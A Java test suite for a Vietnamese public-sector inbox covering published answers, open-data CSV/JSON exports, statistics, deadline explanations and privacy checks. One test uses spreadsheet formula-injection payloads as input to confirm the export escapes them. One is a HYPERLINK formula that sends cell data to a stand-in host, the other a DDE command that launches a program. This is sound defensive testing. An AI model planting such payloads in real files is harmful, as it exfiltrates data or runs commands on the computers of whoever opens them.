package vn.minhbach.inbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import jakarta.json.Json;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import vn.minhbach.change.Derived;
import vn.minhbach.change.Values;
import vn.minhbach.search.Hit;
import vn.minhbach.search.SearchService;
import vn.minhbach.shared.NotFoundException;
import vn.minhbach.shared.UnavailableException;
import vn.minhbach.web.Words;

/** What everybody reads of the inbox: lists, files and figures, and that nothing else comes out by them. */
class PublishedAnswersTest {

    private static final OpenData.Terms TERMS =
            new OpenData.Terms("https://cong.example.gov.vn", "Sở Văn hóa", "Ghi rõ nguồn: Sở Văn hóa.");

    private final InboxOnH2 h2 = new InboxOnH2();
    private boolean indexIsThere = true;

    /** Everything that hands something out. */
    private record Out(PublishedAnswers answers, OpenData data, InboxFiguresService figures) {}

    @BeforeEach
    void begin() {
        h2.actAs("moderator");
    }

    @AfterEach
    void close() {
        h2.close();
    }

    private <T> T ask(Function<Out, T> work) {
        return h2.database().ask(em -> {
            var desk = h2.new Desk(em);
            var values = new Values();
            var answers = new PublishedAnswers(
                    new PublishedRepository(em),
                    desk.service,
                    new SearchService() {
                        @Override
                        public Optional<Hit> at(String address) {
                            if (!indexIsThere) {
                                throw new UnavailableException(UnavailableException.Part.SEARCH);
                            }
                            return address.equals("/thu-tuc/1.001234")
                                    ? Optional.of(new Hit(
                                            "procedure",
                                            "1.001234",
                                            "Cấp giấy phép",
                                            address,
                                            1,
                                            "",
                                            "",
                                            Map.of("field", "Mỹ thuật"),
                                            false))
                                    : Optional.empty();
                        }
                    },
                    new Derived<>(values),
                    new Derived<>(values));
            var figures = new InboxFiguresService(
                    new InboxFiguresRepository(em),
                    desk.repository,
                    desk.legal,
                    () -> InboxOnH2.everywhere("moderator"),
                    h2.clock(),
                    new Derived<>(values));
            var units = new InboxUnits() {
                @Override
                LinkedHashMap<String, String> names() {
                    return new LinkedHashMap<>(Map.of("van-phong", "Văn phòng Sở"));
                }
            };
            return work.apply(new Out(answers, new OpenData(answers, desk.service, figures, units), figures));
        });
    }

    private long published(String kind, String procedure) {
        var form = InboxOnH2.form(kind, kind + h2.clock().instant(), "Giấy phép tổ chức triển lãm mất bao lâu?");
        var key = h2.ask(desk ->
                desk.submit(new NewSubmission(kind, form.token(), form.values(), "", procedure, false, false, "vi")));
        var id = h2.ask(desk -> desk.repository.byForm(key).orElseThrow().number());
        h2.actAs("moderator");
        h2.answer(id);
        h2.deed(id, (desk, sheet) -> desk.publish(id, sheet.unit(), sheet.version(), false));
        h2.clock().pass(Duration.ofDays(1));
        return id;
    }

    private PublishedAnswers.Found find(PublishedAnswers.Choice choice) {
        return ask(out -> out.answers().find(choice));
    }

    private static PublishedAnswers.Choice choice(String kind, String field, String unit, String procedure) {
        return new PublishedAnswers.Choice(SubmissionKind.Form.FEEDBACK, kind, field, unit, procedure, true);
    }

    @Test
    void questionsAndFeedbackHaveListsOfTheirOwn() {
        var question = published("question", "");
        var rule = published("rule-feedback", "1.001234");
        var conduct = published("conduct-feedback", "");

        assertThat(find(PublishedAnswers.Choice.all(SubmissionKind.Form.QUESTION))
                        .order())
                .containsExactly(question);
        assertThat(find(PublishedAnswers.Choice.all(SubmissionKind.Form.FEEDBACK))
                        .order())
                .containsExactly(conduct, rule);
    }

    @Test
    void aListIsNarrowedAndTellsWhatElseThereIs() {
        var rule = published("rule-feedback", "1.001234");
        var conduct = published("conduct-feedback", "");

        assertThat(find(choice("rule-feedback", "", "", "")).order()).containsExactly(rule);
        assertThat(find(choice("", "Mỹ thuật", "", "")).order()).containsExactly(rule);
        assertThat(find(choice("", "", "van-phong", "")).order()).containsExactly(conduct, rule);
        assertThat(find(choice("", "", "thanh-tra", "")).order()).isEmpty();
        assertThat(find(choice("", "", "", "1.001234")).order()).containsExactly(rule);
        assertThat(find(choice("conduct-feedback", "Mỹ thuật", "", "")).order()).isEmpty();

        var found = find(choice("conduct-feedback", "", "", ""));
        assertThat(found.kinds()).containsOnly(Map.entry("rule-feedback", 1L), Map.entry("conduct-feedback", 1L));
        assertThat(found.fields()).isEmpty();
        assertThat(found.units()).containsOnly(Map.entry("van-phong", 1L));
    }

    /** Hardly anybody asks from the page of a procedure; on what the answer rests says what it is about. */
    @Test
    void anAnswerIsAboutTheProcedureOnWhichItRests() throws IOException {
        Optional<String> before = ask(out -> out.answers().about("1.001234"));
        assertThat(before).isEmpty();
        var id = h2.send("question");
        h2.deed(id, (desk, sheet) -> desk.assign(id, sheet.unit(), sheet.version(), "van-phong"));
        h2.actAs("responder");
        h2.draft(
                id,
                SaidOfDeed.answer("Bảy ngày.", "Thời hạn", "Mất bao lâu?", "Bảy ngày."),
                List.of(
                        new Basis.Source("article", "7", "/tin-tuc/7", "Rút ngắn thời hạn"),
                        Basis.Source.procedure("1.001234"),
                        Basis.Source.procedure("1.009999")));
        h2.actAs("approver");
        h2.deed(id, (desk, sheet) -> desk.approve(id, sheet.unit(), sheet.version(), false));
        h2.deed(id, (desk, sheet) -> desk.answer(id, sheet.unit(), sheet.version()));
        h2.deed(id, (desk, sheet) -> desk.publish(id, sheet.unit(), sheet.version(), false));
        published("rule-feedback", "1.009999");

        var found = find(new PublishedAnswers.Choice(SubmissionKind.Form.QUESTION, "", "", "", "1.001234", true));
        assertThat(found.order()).containsExactly(id);
        Optional<String> about = ask(out -> out.answers().about("1.001234"));
        assertThat(about).hasValue("/hoi-dap?thu-tuc=1.001234");
        Optional<String> ofFeedback = ask(out -> out.answers().about("1.009999"));
        assertThat(ofFeedback).as("feedback is no question").isEmpty();

        // What was public before this was known.
        h2.database()
                .inTransaction(em -> em.createNativeQuery("update inbox_publication set procedure_code = ''")
                        .executeUpdate());
        var migration = Files.readString(Path.of("src/main/resources/db/migration/V076__procedures_of_answers.sql"));
        h2.database()
                .inTransaction(
                        em -> em.createNativeQuery(migration.replace(";", "")).executeUpdate());
        Optional<String> since = ask(out -> out.answers().about("1.001234"));
        assertThat(since).isEqualTo(about);
    }

    @Test
    void withoutTheIndexTheListIsThereWithoutFields() {
        var rule = published("rule-feedback", "1.001234");
        indexIsThere = false;

        var found = find(choice("", "", "", ""));
        assertThat(found.order()).containsExactly(rule);
        assertThat(found.fields()).isEmpty();
    }

    @Test
    void whatHelpedMostComesFirst() {
        var older = published("question", "");
        var newer = published("question", "");
        var useful = new PublishedAnswers.Choice(SubmissionKind.Form.QUESTION, "", "", "", "", false);
        assertThat(find(useful).order()).as("as long as nobody has said so").containsExactly(newer, older);

        var slug = h2.ask(desk -> desk.service.publication(older).orElseThrow().getSlug());
        for (var i = 0; i < 2; i++) {
            ask(out -> {
                out.answers().countUseful(slug);
                return true;
            });
        }
        assertThat(find(useful).order()).containsExactly(older, newer);
        assertThat(find(PublishedAnswers.Choice.all(SubmissionKind.Form.QUESTION))
                        .order())
                .containsExactly(newer, older);
        var counted =
                h2.ask(desk -> desk.service.publication(older).orElseThrow().getUseful());
        assertThat(counted).isEqualTo(2);
        assertThatThrownBy(() -> ask(out -> {
                    out.answers().countUseful("khong-co");
                    return true;
                }))
                .isInstanceOf(NotFoundException.class);
    }

    private String written(DataFile file, boolean csv) {
        return ask(out -> {
            var text = new StringBuilder();
            if (csv) {
                out.data().csv(file, TERMS, text);
            } else {
                out.data().json(file, TERMS, text);
            }
            return text.toString();
        });
    }

    @Test
    void filesHoldWhatIsPublicInColumnsThatStay() throws Exception {
        var id = published("question", "1.001234");
        var csv = written(DataFile.QUESTIONS, true);

        try (var parsed = CSVFormat.DEFAULT.builder().setHeader().get().parse(new StringReader(csv.substring(1)))) {
            assertThat(parsed.getHeaderNames())
                    .containsExactly(
                            "ma",
                            "loai",
                            "tieu_de",
                            "cau_hoi",
                            "tra_loi",
                            "don_vi",
                            "linh_vuc",
                            "thu_tuc",
                            "ngay_nhan",
                            "ngay_tra_loi",
                            "ngay_cong_khai",
                            "dia_chi",
                            "giay_phep");
            var row = parsed.getRecords().getFirst();
            assertThat(row.get("ma")).isEqualTo(String.valueOf(id));
            assertThat(row.get("tra_loi")).isEqualTo("Thời hạn là 7 ngày làm việc.");
            assertThat(row.get("don_vi")).isEqualTo("Văn phòng Sở");
            assertThat(row.get("linh_vuc")).isEqualTo("Mỹ thuật");
            assertThat(row.get("ngay_nhan")).isEqualTo("2026-06-01");
            assertThat(row.get("dia_chi"))
                    .isEqualTo("https://cong.example.gov.vn/hoi-dap/thoi-han-cap-giay-phep-trien-lam-" + id);
            assertThat(row.get("giay_phep")).isEqualTo(TERMS.licence());
        }
        try (var reader = Json.createReader(new StringReader(written(DataFile.QUESTIONS, false)))) {
            var told = reader.readObject();
            assertThat(told.getString("giay_phep")).isEqualTo(TERMS.licence());
            assertThat(told.getJsonArray("du_lieu").getJsonObject(0).getInt("ma"))
                    .isEqualTo((int) id);
        }
        assertThat(written(DataFile.FEEDBACK, false)).contains("\"du_lieu\":[\n]");
    }

    /** Whoever opens the file with a spreadsheet opens text, whatever somebody called their question. */
    @Test
    void nothingInAFileIsComputed() throws Exception {
        var id = h2.send("question");
        h2.deed(id, (desk, sheet) -> desk.assign(id, sheet.unit(), sheet.version(), "van-phong"));
        h2.actAs("responder");
        h2.draft(
                id,
                "Bảy ngày.",
                "=HYPERLINK(\"http://x.example/?\"&A1)",
                "\t@SUM(1+1)*cmd|' /C calc'!A0",
                "+84 lần, -2 ngày");
        h2.actAs("approver");
        h2.deed(id, (desk, sheet) -> desk.approve(id, sheet.unit(), sheet.version(), true));
        h2.deed(id, (desk, sheet) -> desk.answer(id, sheet.unit(), sheet.version()));
        h2.deed(id, (desk, sheet) -> desk.publish(id, sheet.unit(), sheet.version(), true));

        try (var parsed = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .get()
                .parse(new StringReader(written(DataFile.QUESTIONS, true).substring(1)))) {
            var row = parsed.getRecords().getFirst();
            assertThat(row.get("tieu_de")).startsWith("'=HYPERLINK");
            assertThat(row.get("cau_hoi")).startsWith("'@SUM");
            assertThat(row.get("tra_loi")).startsWith("'+84");
        }
    }

    @Test
    void figuresTellOfMonthsAndUnits() throws Exception {
        published("question", "");
        h2.send("conduct-feedback");

        try (var parsed = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .get()
                .parse(new StringReader(written(DataFile.FIGURES, true).substring(1)))) {
            var rows = parsed.getRecords();
            assertThat(rows).extracting(row -> row.get("ky")).containsExactly("2026-06", "2026-06");
            assertThat(rows).extracting(row -> row.get("don_vi")).containsExactly("", "Văn phòng Sở");
            assertThat(rows).extracting(row -> row.get("tiep_nhan")).containsExactly("1", "1");
            assertThat(rows).extracting(row -> row.get("dung_han")).containsExactly("0", "1");
        }
        var year = ask(out -> out.figures().ofAll(out.figures().period("", ReportPeriod.Kind.YEAR), ""));
        assertThat(year.received()).isEqualTo(2);
        var questions =
                ask(out -> out.figures().ofAll(out.figures().period("2026", ReportPeriod.Kind.YEAR), "question"));
        assertThat(questions.received()).isEqualTo(1);
        var index = ask(out -> out.figures().index(out.figures().period("2026-06", ReportPeriod.Kind.MONTH)));
        assertThat(index.count(IndexFigures.Key.RECEIVED)).isEqualTo(1);
        assertThat(index.count(IndexFigures.Key.OF_CONDUCT)).isEqualTo(1);
    }

    /** What was answered once more, by the same people. */
    private void answerAgain(long id) {
        h2.actAs("responder");
        h2.draft(id, "Tám ngày.", "", "", "");
        h2.actAs("approver");
        h2.deed(id, (desk, sheet) -> desk.approve(id, sheet.unit(), sheet.version(), false));
        h2.deed(id, (desk, sheet) -> desk.answer(id, sheet.unit(), sheet.version()));
        h2.actAs("moderator");
    }

    /** The public page, the files and the index are told the same, and none forgets who was unhappy. */
    @Test
    void whatSendersSayOfTheirAnswersIsToldBothWays() throws Exception {
        var settled = published("conduct-feedback", "");
        var off = published("conduct-feedback", "");
        var promised = published("conduct-feedback", "");
        published("conduct-feedback", "");
        var settledCode = h2.code(settled);
        var offCode = h2.code(off);
        var promisedCode = h2.code(promised);
        h2.act(desk -> {
            desk.service.rate(settledCode, InboxOnH2.PHONE, Submission.Rating.ANSWERED);
            desk.service.object(offCode, InboxOnH2.PHONE, "t", "Tôi hỏi về lệ phí.");
            desk.service.rate(promisedCode, InboxOnH2.PHONE, Submission.Rating.PROMISED);
        });
        assertSaid(3, 1);
        h2.clock().pass(Duration.ofDays(1));
        answerAgain(off);
        answerAgain(promised);
        assertSaid(3, 1);

        // In July it is settled after all; of June the same is told as before, by what was said until its end.
        h2.clock().pass(Duration.ofDays(30));
        assertThat(unhappy("2026-06")).containsExactly(off, promised);
        h2.act(desk -> desk.service.rate(promisedCode, InboxOnH2.PHONE, Submission.Rating.ANSWERED));
        assertSaid(3, 2);
        assertThat(unhappy("2026-06")).containsExactly(off, promised);
        assertThat(unhappy("2026")).containsExactly(off);
    }

    private List<Long> unhappy(String period) {
        return ask(out -> out.figures()
                .index(out.figures().period(period, ReportPeriod.Kind.MONTH))
                .behind(IndexFigures.Key.UNHAPPY));
    }

    private void assertSaid(int rated, int resolved) throws Exception {
        var all = ask(out -> out.figures().ofAll(out.figures().period("2026", ReportPeriod.Kind.YEAR), ""));
        assertThat(all.rated()).isEqualTo(rated);
        assertThat(all.resolved()).isEqualTo(resolved);
        assertThat(unhappy("2026")).hasSize(rated - resolved);
        try (var parsed = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .get()
                .parse(new StringReader(written(DataFile.FIGURES, true).substring(1)))) {
            var row = parsed.getRecords().getFirst();
            assertThat(row.get("co_danh_gia")).isEqualTo(String.valueOf(rated));
            assertThat(row.get("da_giai_quyet")).isEqualTo(String.valueOf(resolved));
        }
    }

    @Test
    void nothingOfASenderComesOutByAnyOfIt() {
        var public1 = published("question", "1.001234");
        var kept = h2.send("conduct-feedback");
        h2.actAs("moderator");
        h2.answer(kept);
        h2.deed(kept, (desk, sheet) -> desk.note(kept, sheet.unit(), sheet.version(), "chim hoàng yến trong ghi chú"));
        var drafted = h2.send("rule-feedback");

        var out = new ArrayList<String>();
        for (var file : DataFile.values()) {
            out.add(written(file, true));
            out.add(written(file, false));
        }
        out.add(ask(all -> all.answers().newest(SubmissionKind.Form.QUESTION, 10).stream()
                        .map(each -> each.getTitle() + each.getQuestion() + each.getAnswerHtml() + each.getPath()))
                .toList()
                .toString());
        out.add(ask(all -> all.figures().ofUnits(all.figures().period("2026", ReportPeriod.Kind.YEAR), ""))
                .toString());
        out.add(h2.database().ask(em -> {
            var documents = new ArrayList<String>();
            new PublicationSearchSource().over(em).each(document -> documents.add(document.toString()));
            return documents.toString();
        }));
        assertThat(out).anySatisfy(text -> assertThat(text).contains("Thời hạn là 7 ngày làm việc."));
        assertThat(out)
                .allSatisfy(text -> assertThat(text)
                        .doesNotContainIgnoringCase("Nguyễn Thị Lan")
                        .doesNotContainIgnoringCase("bà Lan")
                        .doesNotContain("Hàng Bè", "0912", InboxOnH2.EMAIL, "Bộ phận một cửa")
                        .doesNotContain("chim hoàng yến", "responder", "approver", "moderator")
                        .doesNotContain(h2.code(public1), h2.code(kept), h2.code(drafted)));
    }

    @Test
    void whatIsTakenBackIsGoneFromAllOfIt() {
        var id = published("question", "");
        h2.deed(id, (desk, sheet) -> desk.keepPrivate(id, sheet.unit(), sheet.version(), "Lộ người hỏi"));

        assertThat(find(PublishedAnswers.Choice.all(SubmissionKind.Form.QUESTION))
                        .order())
                .isEmpty();
        assertThat(written(DataFile.QUESTIONS, false)).doesNotContain("triển lãm");
        var newest = ask(out -> out.answers().newest(SubmissionKind.Form.QUESTION, 10));
        assertThat(newest).isEmpty();
    }

    @Test
    void theSenderAndTheStaffReadWhyADayMoved() {
        var id = h2.send("information-request");
        h2.deed(id, (desk, sheet) -> desk.assign(id, sheet.unit(), sheet.version(), "van-phong"));
        h2.deed(id, (desk, sheet) -> desk.extend(id, sheet.unit(), sheet.version(), "Phải tìm trong kho lưu trữ"));
        h2.act(desk -> desk.legal.addDay(Map.of(
                "day",
                "2026-06-10",
                "kind",
                "OFF",
                "title",
                "Ngày nghỉ thử",
                "basis",
                "Quyết định thử",
                "certainty",
                "VERIFIED",
                "counted",
                "YES")));

        var track = String.join("\n", h2.track(id).why());
        assertThat(track)
                .contains("15 ngày làm việc", "Gia hạn ngày 01/06/2026, lý do: Phải tìm trong kho lưu trữ")
                .contains("Hạn được tính lại ngày 01/06/2026:")
                .contains("Ngày nghỉ thử");
        assertThat(h2.open(id).why()).isEqualTo(h2.track(id).why());
        var dates = h2.ask(desk -> desk.desk.dates(id, Words.VIETNAMESE));
        assertThat(dates)
                .extracting(InboxDeskService.Dated::headline)
                .containsExactly(
                        "Thông báo tiếp nhận: hạn là ngày 04/06/2026; đã thực hiện ngày 01/06/2026, đúng hạn.",
                        "Trả lời: chậm nhất ngày 14/07/2026");
        assertThat(dates.getFirst().why())
                .as("only the answer was put off")
                .noneMatch(sentence -> sentence.startsWith("Gia hạn"));
        assertThat(h2.track(id).dates())
                .as("the sender reads every day that the staff reads")
                .isEqualTo(dates.stream()
                        .map(each -> new Tracked.Dated(each.headline(), each.why()))
                        .toList());
        assertThat(h2.track(id).due()).isEqualTo("Trả lời: chậm nhất ngày 14/07/2026");
    }

    @Test
    void aStopIsToldWithItsDays() {
        var id = h2.send("question");
        h2.clock().pass(Duration.between(h2.clock().instant(), Instant.parse("2026-06-03T02:00:00Z")));
        h2.deed(id, (desk, sheet) -> desk.askMore(id, sheet.unit(), sheet.version(), "Ở đâu?"));
        assertThat(String.join("\n", h2.track(id).why())).contains("03/06/2026");
        h2.clock().pass(Duration.ofDays(5));
        var code = h2.code(id);
        h2.act(desk -> desk.service.add(code, InboxOnH2.PHONE, "t", "Ở Hàng Bè"));

        assertThat(String.join("\n", h2.track(id).why())).contains("03/06/2026", "08/06/2026");
    }

    @Test
    void whatIsLateIsCountedByUnit() {
        var id = h2.send("question");
        h2.deed(id, (desk, sheet) -> desk.assign(id, sheet.unit(), sheet.version(), "van-phong"));
        h2.send("conduct-feedback");
        h2.clock().pass(Duration.ofDays(60));

        var counts = h2.ask(desk -> desk.desk.countOfUnits(InboxQuery.View.LATE));
        assertThat(counts).containsOnly(Map.entry("", 1L), Map.entry("van-phong", 1L));
        for (var unit : List.of(InboxQuery.NO_UNIT, "van-phong")) {
            var behind = h2.ask(desk -> desk.desk.numbers(
                    InboxQuery.View.LATE, "", unit, new vn.minhbach.desk.ListState("", "", false, 1)));
            assertThat(behind).as(unit).hasSize(1);
        }
        h2.actAs(InboxOnH2.at("head", "van-phong"));
        var own = h2.ask(desk -> desk.desk.countOfUnits(InboxQuery.View.LATE));
        assertThat(own).containsOnly(Map.entry("van-phong", 1L));
    }
}
